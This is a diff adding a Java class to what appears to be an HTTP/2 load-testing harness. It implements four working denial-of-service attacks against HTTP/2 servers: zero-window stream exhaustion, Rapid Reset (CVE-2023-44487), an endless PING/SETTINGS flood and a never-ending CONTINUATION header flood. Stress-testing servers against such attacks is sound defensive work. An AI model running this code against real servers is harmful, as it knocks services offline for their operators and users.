@@ -1,0 +1,92 @@
+package io.sluice.loadtest.experiments.hostile;
+
+import static io.sluice.loadtest.experiments.wire.Http2Wire.CONTINUATION;
+import static io.sluice.loadtest.experiments.wire.Http2Wire.END_HEADERS;
+import static io.sluice.loadtest.experiments.wire.Http2Wire.END_STREAM;
+import static io.sluice.loadtest.experiments.wire.Http2Wire.HEADERS;
+import static io.sluice.loadtest.experiments.wire.Http2Wire.PING;
+import static io.sluice.loadtest.experiments.wire.Http2Wire.RST_STREAM;
+import static io.sluice.loadtest.experiments.wire.Http2Wire.SETTINGS;
+import static io.sluice.loadtest.experiments.wire.Http2Wire.frame;
+
+import io.sluice.loadtest.experiments.wire.Attacker;
+import io.sluice.loadtest.experiments.wire.Http2Wire;
+import java.io.ByteArrayOutputStream;
+import java.util.Arrays;
+
+/** What can be done with HTTP/2. */
+final class Http2Attackers {
+
+    private static final int STREAMS = 100;
+    private static final int AT_ONCE = 100;
+    private static final int DEFAULT_WINDOW = 65_535;
+    private static final byte[] CANCEL = {0, 0, 0, 8};
+    private static final int PING_BYTES = 8;
+    private static final int PIECE = 10;
+
+    private Http2Attackers() {}
+
+    /** Opens as many streams as it may, each with a window of 0: nothing of their answers can be sent. */
+    static Attacker windowZero(String path) {
+        return wire -> {
+            var http2 = Http2Wire.open(wire, 0);
+            var block = Http2Wire.get(path);
+            for (int n = 0; n < STREAMS; n++) {
+                http2.send(frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, block));
+            }
+            wire.skipToEnd();
+        };
+    }
+
+    /** Opens streams and resets each at once (CVE-2023-44487). */
+    static Attacker rapidReset(String path) {
+        return wire -> {
+            var http2 = Http2Wire.open(wire, DEFAULT_WINDOW);
+            var block = Http2Wire.get(path);
+            for (int stream = 1; stream > 0;) {
+                var frames = new ByteArrayOutputStream();
+                for (int n = 0; n < AT_ONCE && stream > 0; n++, stream += 2) {
+                    frames.writeBytes(frame(HEADERS, END_HEADERS | END_STREAM, stream, block));
+                    frames.writeBytes(frame(RST_STREAM, 0, stream, CANCEL));
+                }
+                http2.send(frames.toByteArray());
+                wire.skipAvailable();
+            }
+        };
+    }
+
+    /** Sends frames that ask for nothing but a reply. */
+    static Attacker controlFrames() {
+        var frames = new ByteArrayOutputStream();
+        for (int n = 0; n < AT_ONCE; n++) {
+            frames.writeBytes(frame(PING, 0, 0, new byte[PING_BYTES]));
+            frames.writeBytes(frame(SETTINGS, 0, 0));
+        }
+        return wire -> {
+            var http2 = Http2Wire.open(wire, DEFAULT_WINDOW);
+            while (true) {
+                http2.send(frames.toByteArray());
+                wire.skipAvailable();
+            }
+        };
+    }
+
+    /** Sends a header block that never ends, in small pieces. */
+    static Attacker continuations(String path) {
+        return wire -> {
+            var http2 = Http2Wire.open(wire, DEFAULT_WINDOW);
+            http2.send(frame(HEADERS, END_STREAM, 1, Http2Wire.get(path)));
+            var piece = frame(CONTINUATION, 0, 1, indexedFields());
+            while (true) {
+                http2.send(piece);
+            }
+        };
+    }
+
+    /** {@code accept-encoding: gzip, deflate} of the static table, again and again. */
+    private static byte[] indexedFields() {
+        var fields = new byte[PIECE];
+        Arrays.fill(fields, (byte) 0x90);
+        return fields;
+    }
+}
